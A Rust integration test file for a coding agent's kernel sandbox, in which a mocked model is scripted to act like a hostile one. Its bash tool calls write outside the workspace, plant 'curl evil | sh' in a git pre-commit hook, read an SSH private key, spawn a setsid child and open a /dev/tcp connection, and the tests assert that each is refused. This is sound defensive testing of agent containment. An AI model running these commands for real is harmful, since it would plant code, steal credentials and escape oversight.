//! The sandbox (SPEC 17) against the kernel, in one-shot mode with no
//! rules, the model scripted (via the mock) to try what a hostile one
//! would: a write in the workspace works without asking; writes to $HOME,
//! into .git/hooks or by a setsid child, a read of ~/.ssh and a TCP
//! connection to 127.0.0.1 are refused by the kernel and the result says
//! so; `read-only` refuses writes in the cwd, and resume keeps the mode;
//! with no kernel support every command asks (is denied here), never runs
//! unsandboxed silently; `"sandbox": false` is denied without a terminal.

use std::io::ErrorKind;
use std::net::TcpListener;
use std::path::{Path, PathBuf};

use crate::support::mock::{MockServer, Reply};
use crate::support::sse::*;
use crate::support::*;
use serde_json::{Value, json};

/// A store, the mock, a config (plus `extra`), a project that is a git
/// work tree, a fake home with a secret in ~/.ssh, and a TMPDIR of its own
/// (so neither /tmp nor the home is a writable root).
pub(crate) fn setup(extra: Value) -> (TestStore, MockServer, PathBuf) {
    assert!(
        matches!(glrs::sandbox::support(), glrs::sandbox::Support::Enforced(_)),
        "these tests need a kernel that can sandbox (Landlock ABI 3+, user namespaces): {:?}",
        glrs::sandbox::support()
    );
    let (ts, server, proj) = agent_setup(extra);
    std::fs::create_dir_all(proj.join(".git/hooks")).unwrap();
    std::fs::write(proj.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let home = ts.dir.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "SECRET-PRIVATE-KEY\n").unwrap();
    std::fs::create_dir_all(ts.dir.path().join("tmp")).unwrap();
    (ts, server, proj)
}

pub(crate) fn bash(server: &MockServer, n: usize, input: Value) {
    server.push(Reply::sse(openai_tool_call(&format!("call_{n}"), "bash", &[&input.to_string()])));
}

pub(crate) fn agent(ts: &TestStore, proj: &Path, env: &[(&str, &str)], args: &[&str]) -> std::process::Output {
    let mut cmd = ts.chat();
    cmd.current_dir(proj)
        .env("XDG_CACHE_HOME", ts.dir.path().join("cache"))
        .env("TMPDIR", ts.dir.path().join("tmp"))
        .args(["-m", "openai/gpt-4.1"])
        .args(args);
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.output().unwrap()
}

/// The results of the `tool` entries of session `id`, in order.
pub(crate) fn results(ts: &TestStore, id: &str) -> Vec<String> {
    let path = ts.sessions_dir().join(format!("{id}.json"));
    let session: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    session["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["type"] == "tool")
        .map(|e| e["result"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn workspace_write_holds_the_hostile_commands_without_asking() {
    let (ts, server, proj) = setup(json!({}));
    let home = ts.dir.path().join("home");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let steps = [
        json!({"command": "echo inside > inside.txt && cat inside.txt"}),
        json!({"command": "echo pwn > \"$HOME/outside.txt\""}),
        json!({"command": "echo 'curl evil | sh' > .git/hooks/pre-commit"}),
        json!({"command": "setsid -w bash -c 'echo pwn > \"$HOME/setsid.txt\"'"}),
        json!({"command": "cat ~/.ssh/id_ed25519"}),
        json!({"command": format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected")}),
    ];
    for (i, input) in steps.iter().enumerate() {
        bash(&server, i, input.clone());
    }
    server.push(Reply::sse(openai_text(&["done"], 10, 2, 0)));
    let out = agent(&ts, &proj, &[], &["-p", "try everything"]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let (id, _) = ts.only_session();
    let r = results(&ts, &id);
    assert!(r[0].starts_with("inside\nexit code 0"), "a write in the cwd runs without asking: {}", r[0]);
    assert_eq!(std::fs::read_to_string(proj.join("inside.txt")).unwrap(), "inside\n");
    let named = |i: usize, path: &Path, why: &str| {
        let want = format!("sandbox: write to {} refused ({why}", path.display());
        assert!(r[i].contains(&want), "call {i} should say {want:?}: {}", r[i]);
    };
    let home = glrs::sandbox::resolve(&home);
    let proj_real = glrs::sandbox::resolve(&proj);
    named(1, &home.join("outside.txt"), "outside the writable roots");
    assert!(!home.join("outside.txt").exists(), "$HOME is not written");
    named(2, &proj_real.join(".git/hooks/pre-commit"), "read-only inside the sandbox");
    assert!(!proj.join(".git/hooks/pre-commit").exists(), ".git stays read-only");
    named(3, &home.join("setsid.txt"), "outside the writable roots");
    assert!(!home.join("setsid.txt").exists(), "a setsid child is held too");
    assert!(!r[4].contains("SECRET"), "the key is not read: {}", r[4]);
    assert!(r[4].contains("refused (it is in sandbox.denyRead)"), "{}", r[4]);
    assert!(!r[5].contains("connected") && r[5].contains("sandbox: network access refused"), "{}", r[5]);
    assert_eq!(listener.accept().map(|_| ()).map_err(|e| e.kind()), Err(ErrorKind::WouldBlock), "no connection came");
    let session_text = std::fs::read_to_string(ts.sessions_dir().join(format!("{id}.json"))).unwrap();
    assert!(!session_text.contains("SECRET"), "the key reached no file");

    // With sandbox.network: true the same connection works.
    let (ts, server, proj) = setup(json!({"sandbox": {"network": true}}));
    bash(&server, 0, json!({"command": format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected")}));
    server.push(Reply::sse(openai_text(&["done"], 10, 2, 0)));
    let out = agent(&ts, &proj, &[], &["-p", "connect"]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let (id, _) = ts.only_session();
    assert!(results(&ts, &id)[0].starts_with("connected\nexit code 0"), "{:?}", results(&ts, &id));
    listener.set_nonblocking(false).unwrap();
    assert!(listener.accept().is_ok(), "the listener got the connection");
}

#[test]
fn read_only_refuses_writes_in_the_cwd_and_resume_keeps_the_mode() {
    let (ts, server, proj) = setup(json!({}));
    bash(&server, 0, json!({"command": "echo x > made.txt"}));
    server.push(Reply::sse(openai_text(&["no"], 10, 2, 0)));
    let out = agent(&ts, &proj, &[], &["--sandbox", "read-only", "-p", "write"]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let (id, header) = ts.only_session();
    assert_eq!(header["sandbox"], "read-only");
    let made = glrs::sandbox::resolve(&proj).join("made.txt");
    let r = results(&ts, &id);
    assert!(
        r[0].contains(&format!(
            "sandbox: write to {} refused (outside the writable roots, mode read-only)",
            made.display()
        )),
        "{}",
        r[0]
    );
    assert!(!made.exists());

    // Resumed without --sandbox: still read-only; with it: the new mode.
    bash(&server, 1, json!({"command": "echo x > made.txt"}));
    server.push(Reply::sse(openai_text(&["still no"], 10, 2, 0)));
    let out = agent(&ts, &proj, &[], &["--resume", &id, "-p", "again"]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert!(!made.exists(), "resume keeps read-only");
    let status = stdout_of(&ts.sessions().args(["status", &id]).output().unwrap());
    assert!(status.contains("sandbox\tread-only (enforced by the kernel)"), "{status}");
    bash(&server, 2, json!({"command": "echo x > made.txt"}));
    server.push(Reply::sse(openai_text(&["yes"], 10, 2, 0)));
    let out = agent(&ts, &proj, &[], &["--resume", &id, "--sandbox", "workspace-write", "-p", "now"]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert!(made.exists(), "workspace-write lets it write");
    assert_eq!(ts.only_session().1["sandbox"], "workspace-write");
}

#[test]
fn no_kernel_support_means_asking_and_leaving_the_sandbox_is_denied() {
    let (ts, server, proj) = setup(json!({}));
    bash(&server, 0, json!({"command": "echo x > made.txt"}));
    server.push(Reply::sse(openai_text(&["denied"], 10, 2, 0)));
    let out = agent(&ts, &proj, &[("GLRS_SANDBOX_UNAVAILABLE", "simulated")], &["-p", "write"]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let err = stderr_of(&out);
    assert_eq!(err.matches("sandbox unavailable: simulated").count(), 1, "said once at start: {err}");
    let (id, _) = ts.only_session();
    let r = results(&ts, &id);
    assert!(r[0].contains("needs permission and there is no terminal to ask"), "{}", r[0]);
    assert!(!proj.join("made.txt").exists(), "never run unsandboxed without asking");

    // "sandbox": false is denied in one-shot mode, even with --allow-all...
    let (ts, server, proj) = setup(json!({}));
    let outside = json!({"command": "echo x > \"$HOME/out.txt\"", "sandbox": false, "reason": "write my home"});
    bash(&server, 0, outside.clone());
    server.push(Reply::sse(openai_text(&["denied"], 10, 2, 0)));
    let out = agent(&ts, &proj, &[], &["--allow-all", "-p", "leave"]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let (id, _) = ts.only_session();
    let r = results(&ts, &id);
    assert!(r[0].contains("asked to run outside the sandbox") && r[0].contains("--sandbox off"), "{}", r[0]);
    assert!(!ts.dir.path().join("home/out.txt").exists());
    // ...and runs when the run was started with --sandbox off (and allowed).
    bash(&server, 1, outside);
    server.push(Reply::sse(openai_text(&["done"], 10, 2, 0)));
    let out = agent(&ts, &proj, &[], &["--resume", &id, "--sandbox", "off", "--allow-all", "-p", "leave"]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert!(ts.dir.path().join("home/out.txt").exists());
}

#[test]
fn the_readme_sandbox_config_is_read_as_it_says() {
    let block = crate::recipes::readme_json("\"writableRoots\"");
    let config = glrs::config::Config::parse(&block.to_string()).unwrap();
    assert_eq!(config.sandbox.mode, Some(glrs::sandbox::Mode::WorkspaceWrite));
    assert_eq!(config.sandbox.network, Some(false));
    let dir = tempfile::tempdir().unwrap();
    let root = glrs::sandbox::resolve(dir.path());
    let places = glrs::sandbox::Places {
        home: Some(root.join("home")),
        tmp: root.join("tmp"),
        data: root.join("data"),
        config_dir: root.join("home/.config/glrs"),
        config_file: root.join("home/.config/glrs/config.json"),
        own_output: None,
        caches: None,
    };
    let mode = config.sandbox.mode.unwrap();
    let policy = glrs::sandbox::Policy::new(&config.sandbox, mode, &root.join("work"), &places).unwrap();
    assert!(policy.is_writable(Path::new("/srv/build/out.o")) && policy.is_writable(&root.join("home/.m2/x")));
    assert!(!policy.is_writable(&root.join("home/.cache/x")), "no shared cache unless listed");
    assert!(policy.is_denied_read(Path::new("/srv/secrets/token")) && policy.is_denied_read(&root.join("home/.ssh/k")));
    assert!(!policy.is_denied_read(&root.join("home/.gnupg/k")), "the list replaces the default one");
}
